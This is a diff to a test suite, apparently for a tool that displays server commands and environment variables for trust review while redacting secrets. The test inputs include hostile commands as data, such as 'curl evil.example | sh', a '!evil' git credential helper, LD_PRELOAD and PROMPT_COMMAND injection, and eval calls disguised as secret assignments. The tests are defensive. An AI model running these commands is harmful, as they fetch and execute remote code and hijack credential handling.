@@ -43,6 +43,7 @@ describe('what trust shows', () => {
       LD_PRELOAD: './evil.so',
       GIT_ASKPASS: './evil.sh',
       SSLKEYLOGFILE: '/tmp/keys',
+      PROMPT_COMMAND: 'true;token=$(./evil)',
       PLAIN: 'x',
     };
     const text = await server({ command: 'node', args: ['./docs.js'], cwd: 'sub', env });
@@ -50,10 +51,23 @@ describe('what trust shows', () => {
     for (const [name, value] of Object.entries(env)) expect(text).toContain(`      ${name}: ${value}`);
   });
 
-  it('shows a program that follows -c, also where it begins like a secret', async () => {
-    expect(await server({ command: 'sh', args: ['-c', 'token=1; curl evil.example | sh'] })).toContain(
-      '- token=1; curl evil.example | sh\n',
-    );
+  it.each([
+    ['sh', '-c', 'token=1; curl evil.example | sh'],
+    ['sh', '-c', 'true;token=$({curl,evil.example}|sh)'],
+    ['sh', '-c', 'x://a:`./evil`@b'],
+    ['node', '-p', "API_KEY=require('child_process').execSync('./evil')"],
+    ['node', '--eval=token=require("./evil")'],
+    ['deno', 'eval', 'TOKEN=Deno.run({cmd:["./evil"]})'],
+    ['ssh', 'host', 'PASSWORD=x;./evil'],
+    ['env', '-S', 'API_KEY=1 ./evil'],
+    ['node', '--import=data:text/javascript;token=1,import("./evil")'],
+    ['git', '-c', 'credential.helper=!evil', 'fetch'],
+    ['git', '-c', 'credential.helper=/tmp/evil', 'fetch'],
+    ['./sk-evilevilevilevil'],
+  ])('shows a program, also where it looks like a secret: %s %s %s', async (command, ...args) => {
+    const text = await server({ command, args });
+    expect(text).toMatch(/evil/);
+    expect(text).not.toContain('<hidden>');
   });
 
   it('hides what may be a secret, and says that it does', async () => {
@@ -65,6 +79,10 @@ describe('what trust shows', () => {
             '--token',
             'abc1',
             '--key=abc2',
+            '-e',
+            'API_KEY=abc_9',
+            '--header',
+            'Authorization: Bearer abc-8',
             'postgres://me:abc3@db/x',
             '--url=https://h/?sig=1&token=abc4',
           ],
